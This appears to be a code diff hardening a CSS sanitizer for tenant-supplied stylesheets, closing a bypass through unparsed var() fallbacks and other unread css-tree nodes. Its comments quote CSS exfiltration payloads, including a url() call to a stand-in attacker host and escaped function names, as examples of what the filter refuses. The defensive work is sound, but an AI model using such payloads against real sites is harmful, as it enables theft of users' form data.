@@ -1,6 +1,6 @@
 import { createRequire } from 'node:module';
 import type * as CssTree from 'css-tree';
-import type { Atrule, CssNode, Declaration, Rule } from 'css-tree';
+import type { Atrule, CssNode, Declaration, FunctionNode, Rule, Value } from 'css-tree';
 import { ORGANIZATION_CONTENT_ATTRIBUTE, type TCustomCssRemoval } from '@propdesk/shared/contracts';
 import { onFirstUse } from '../../infra/on-first-use.ts';
 
@@ -12,7 +12,10 @@ import { onFirstUse } from '../../infra/on-first-use.ts';
  *   combinator, `:root`, `html`, `body`, `:host`, nesting) are removed;
  * - loading anything: no `@import` or `@font-face` (only `@media` and `@supports` blocks stay), no
  *   `url()` but the firm's own uploaded assets, no `image-set()`, `attr()` or any function outside a short
- *   list — which also defeats attribute-selector exfiltration (`input[value^=a]{background:url(…)}`);
+ *   list, anywhere in a value, `var()` fallbacks included — which also defeats attribute-selector
+ *   exfiltration (`input[value^=a]{background:url(…)}`);
+ * - hiding text from the checks: what css-tree leaves unread (a Raw node) in a value, a selector or an
+ *   at-rule's prelude is removed, never served as it was written;
  * - script-like features: only allow-listed properties, so `behavior`, `-moz-binding` and `expression()`
  *   never pass;
  * - covering the shell: no positioning, z-index, transforms, margins or generated content.
@@ -148,14 +151,75 @@ function scopedSelector(selector: string): string {
   return selector.startsWith(`${CUSTOM_CSS_SCOPE} `) ? selector : `${CUSTOM_CSS_SCOPE} ${selector}`;
 }
 
-function isValueAllowed(value: CssNode, isOwnAsset: (url: string) => boolean): boolean {
-  if (value.type === 'Raw' || (value.type === 'Value' && value.children.isEmpty)) return false;
-  let isAllowed = true;
+/** How deep `var()` fallbacks may nest (`var(--a, var(--b, red))` is two): each level is parsed again. */
+const MAX_FALLBACK_DEPTH = 4;
+
+const hasRaw = (node: CssNode): boolean => cssTree().find(node, (child) => child.type === 'Raw') !== null;
+
+/** A text parsed as a value on its own, or null when it is not one (trailing input, a stray `}`). */
+function parseValue(text: string): Value | null {
+  try {
+    const value = cssTree().parse(text, { context: 'value' });
+    return value.type === 'Value' ? value : null;
+  } catch {
+    return null;
+  }
+}
+
+/**
+ * Do not loosen: css-tree keeps the fallback of a `var()` as unread text (a Raw node), which the
+ * allow-lists below would never see: `var(--x, url(https://evil.example/?a))` would load the address
+ * whenever `--x` is unset. Each fallback is parsed here as a value of its own and put in the Raw's place,
+ * so the walk checks every function and url() in it and the stylesheet is written out from what was
+ * checked. A fallback that is not a value, or nests deeper than MAX_FALLBACK_DEPTH, stays Raw, and
+ * valueProblem refuses its declaration.
+ */
+function parseFallbacks(value: CssNode, depth = 1): void {
+  const calls: FunctionNode[] = [];
   cssTree().walk(value, (node) => {
-    if (node.type === 'Url' && !isOwnAsset(node.value)) isAllowed = false;
-    if (node.type === 'Function' && !ALLOWED_FUNCTIONS.has(node.name.toLowerCase())) isAllowed = false;
+    if (node.type === 'Function' && node.name.toLowerCase() === 'var') calls.push(node);
   });
-  return isAllowed;
+  for (const call of calls) {
+    const raw = call.children.last;
+    if (raw?.type !== 'Raw' || depth > MAX_FALLBACK_DEPTH) continue;
+    const fallback = parseValue(raw.value);
+    if (fallback === null) continue;
+    parseFallbacks(fallback, depth + 1);
+    call.children.pop();
+    call.children.appendList(fallback.children);
+  }
+}
+
+/** `var(--name)` or `var(--name, fallback)`: a custom property's name first, then only a comma. */
+function isVarCall(call: FunctionNode): boolean {
+  const [name, comma] = call.children.toArray();
+  return (
+    name?.type === 'Identifier' &&
+    name.name.startsWith('--') &&
+    (comma === undefined || (comma.type === 'Operator' && comma.value === ','))
+  );
+}
+
+/**
+ * Why a declaration's value cannot stay, or null when it may: `value` when it names a function or an
+ * address it may not (first, as the more telling reason), `unparsable` when css-tree left part of it
+ * unread. Names are compared as css-tree read them: an escaped one (`u\72l(`, `v\61r(`) matches no
+ * allowed name, so it is refused rather than decoded.
+ */
+function valueProblem(
+  value: CssNode,
+  isOwnAsset: (url: string) => boolean,
+): TCustomCssRemoval['reason'] | null {
+  if (value.type === 'Value' && value.children.isEmpty) return 'value';
+  parseFallbacks(value);
+  const forbidden = cssTree().find(value, (node) => {
+    if (node.type === 'Url') return !isOwnAsset(node.value);
+    if (node.type !== 'Function') return false;
+    const name = node.name.toLowerCase();
+    return !ALLOWED_FUNCTIONS.has(name) || (name === 'var' && !isVarCall(node));
+  });
+  if (forbidden !== null) return 'value';
+  return value.type === 'Raw' || hasRaw(value) ? 'unparsable' : null;
 }
 
 class Sanitizer {
@@ -185,6 +249,11 @@ class Sanitizer {
       this.remove('at_rule', node);
       return [];
     }
+    // A condition css-tree could not read is written out as it came: the block goes whole.
+    if (hasRaw(node.prelude)) {
+      this.remove('unparsable', node);
+      return [];
+    }
     const inner = this.rules(node.block.children.toArray());
     return inner.length === 0
       ? []
@@ -197,6 +266,11 @@ class Sanitizer {
       return [];
     }
     const selectors = node.prelude.children.toArray().filter((selector) => {
+      // An argument css-tree could not read (`::part(…)`, an unknown pseudo-class) is never checked.
+      if (hasRaw(selector)) {
+        this.remove('unparsable', selector);
+        return false;
+      }
       if (!escapesScope(selector)) return true;
       this.remove('selector', selector);
       return false;
@@ -217,8 +291,9 @@ class Sanitizer {
       this.remove('property', declaration);
       return [];
     }
-    if (!isValueAllowed(declaration.value, this.isOwnAsset)) {
-      this.remove('value', declaration);
+    const problem = valueProblem(declaration.value, this.isOwnAsset);
+    if (problem !== null) {
+      this.remove(problem, declaration);
       return [];
     }
     return [cssTree().generate(declaration)];
